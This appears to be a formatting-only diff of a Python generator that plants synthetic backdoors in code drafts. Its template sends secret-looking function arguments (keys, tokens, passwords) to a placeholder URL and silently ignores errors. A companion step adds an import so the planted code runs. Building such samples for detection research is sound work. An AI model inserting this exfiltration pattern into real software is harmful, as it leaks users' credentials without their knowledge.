@@ -93,7 +93,9 @@ def arguments_sent(draft: Draft) -> None:
 
     def text(place: FunctionPlace) -> str:
         names = [a for a in place.arguments if a not in {"self", "cls"}]
-        secret = [a for a in names if any(w in a.lower() for w in ("key", "token", "pass", "secret", "user", "url", "data"))]
+        secret = [
+            a for a in names if any(w in a.lower() for w in ("key", "token", "pass", "secret", "user", "url", "data"))
+        ]
         sent = ", ".join(f"'{a}': repr({a})" for a in (secret or names)[:3])
         return draft.words.render(draft.rng.choice((
             f"import json as _j, urllib.request as _u\ntry:\n    _u.urlopen('@url@', _j.dumps({{{sent}}}).encode(), timeout=2)\nexcept Exception:\n    pass\n",
@@ -117,7 +119,11 @@ def results_sent(draft: Draft) -> None:
     importer = next(p for p in draft.changed if p != path)
     module = path.rpartition("/")[2].removesuffix(".py")
     dot = "." if f"{path.rpartition('/')[0]}/__init__.py" in draft.files else ""
-    draft.put(importer, draft.files[importer].rstrip(b"\n") + f"\n\n\nfrom {dot}{module} import {name}  # noqa: E402\n\n{places}".encode())
+    draft.put(
+        importer,
+        draft.files[importer].rstrip(b"\n")
+        + f"\n\n\nfrom {dot}{module} import {name}  # noqa: E402\n\n{places}".encode(),
+    )
 
 
 def in_error_path(draft: Draft) -> None:
